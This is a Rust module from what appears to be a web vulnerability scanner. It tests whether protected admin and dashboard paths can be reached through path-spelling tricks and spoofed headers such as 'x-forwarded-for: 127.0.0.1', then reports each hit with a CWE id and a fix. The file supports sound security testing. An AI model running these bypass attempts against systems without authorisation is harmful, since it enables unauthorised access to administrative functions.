use async_trait::async_trait;
use reqwest::Client;
use tokio::time::Instant;
use url::Url;

use super::{excerpt, target_of, Probe, ProbeResponse};
use crate::error::ModuleError;
use crate::exploits::{
    ExecutionMode, ExploitKind, ExploitModule, ModuleOutput, ScanOptions, Severity, Subject,
    Vulnerability,
};

const KIND: &str = "Authentication bypass";
const FIX: &str = "Enforce authorization on the canonical route inside the application, not on raw paths or client-supplied headers.";

const PROTECTED: &[&str] = &["admin", "dashboard", "api/admin"];

/// Headers some proxies and frameworks trust for "internal" callers.
const SPOOFED: &[(&str, &str)] = &[
    ("x-forwarded-for", "127.0.0.1"),
    ("x-real-ip", "127.0.0.1"),
    ("x-custom-ip-authorization", "127.0.0.1"),
    ("x-original-url", "/"),
];

/// Tries to reach protected paths through path rewrites and spoofed headers.
pub struct AuthBypassProbe {
    client: Client,
}

impl AuthBypassProbe {
    pub fn new(client: Client) -> Self {
        Self { client }
    }
}

#[async_trait]
impl ExploitModule for AuthBypassProbe {
    fn mode(&self) -> ExecutionMode {
        ExecutionMode::Live
    }

    async fn run(
        &self,
        subject: &Subject,
        options: &ScanOptions,
        deadline: Instant,
    ) -> Result<ModuleOutput, ModuleError> {
        let target = target_of(subject, ExploitKind::AuthBypass)?;
        let probe = Probe::new(&self.client, options, deadline);
        let home = probe.baseline(target).await?;

        let mut findings = Vec::new();
        for path in PROTECTED {
            probe.ensure_time()?;
            let url = at(target, path);
            let Some(guarded) = probe.attempt(probe.client().get(url.clone())).await? else {
                continue;
            };

            if guarded.status.is_success() {
                if looks_privileged(&guarded, &home) {
                    findings.push(
                        Vulnerability::new(
                            KIND,
                            Severity::High,
                            url.as_str(),
                            "Administrative page served without authentication",
                        )
                        .with_evidence(format!("HTTP {} for an unauthenticated GET", guarded.status.as_u16()))
                        .with_recommendation(FIX)
                        .with_cwe("CWE-306"),
                    );
                }
                continue;
            }
            if !matches!(guarded.status.as_u16(), 401 | 403) {
                continue;
            }

            if let Some(finding) = bypass(&probe, target, path, &url).await? {
                findings.push(finding);
            }
        }

        Ok(ModuleOutput::new(findings, 0))
    }
}

/// First rewrite or header that turns a 401/403 on `url` into a success.
async fn bypass(
    probe: &Probe<'_>,
    target: &Url,
    path: &str,
    url: &Url,
) -> Result<Option<Vulnerability>, ModuleError> {
    for variant in variants(target, path) {
        probe.ensure_time()?;
        let Some(response) = probe.attempt(probe.client().get(variant.clone())).await? else {
            continue;
        };
        if response.status.is_success() {
            return Ok(Some(finding(url, &response, format!("GET {}", variant.path()))));
        }
    }

    for (name, value) in SPOOFED {
        probe.ensure_time()?;
        let request = probe.client().get(url.clone()).header(*name, *value);
        let Some(response) = probe.attempt(request).await? else {
            continue;
        };
        if response.status.is_success() {
            return Ok(Some(finding(url, &response, format!("{name}: {value}"))));
        }
    }
    Ok(None)
}

fn finding(url: &Url, response: &ProbeResponse, payload: String) -> Vulnerability {
    Vulnerability::new(
        KIND,
        Severity::Critical,
        url.as_str(),
        "Access control on a protected path bypassed",
    )
    .with_payload(payload)
    .with_evidence(format!(
        "HTTP {}: {}",
        response.status.as_u16(),
        excerpt(&response.body, "")
    ))
    .with_recommendation(FIX)
    .with_cwe("CWE-288")
}

/// `path` resolved under the target's directory.
fn at(target: &Url, path: &str) -> Url {
    let mut url = target.clone();
    let base = target.path().trim_end_matches('/');
    url.set_path(&format!("{base}/{path}"));
    url.set_query(None);
    url
}

/// Spellings of `path` that naive path matching treats as different routes.
fn variants(target: &Url, path: &str) -> Vec<Url> {
    let base = target.path().trim_end_matches('/');
    [
        format!("{base}/{}", path.to_uppercase()),
        format!("{base}//{path}"),
        format!("{base}/{path}/"),
        format!("{base}/{path}%20"),
        format!("{base}/{path};/"),
    ]
    .into_iter()
    .map(|p| {
        let mut url = target.clone();
        url.set_path(&p);
        url.set_query(None);
        url
    })
    .collect()
}

/// A success that is not just the home page served for every route.
fn looks_privileged(page: &ProbeResponse, home: &ProbeResponse) -> bool {
    if page.body == home.body {
        return false;
    }
    let body = page.body.to_lowercase();
    ["admin", "dashboard", "logout", "manage users"]
        .iter()
        .any(|w| body.contains(w))
}
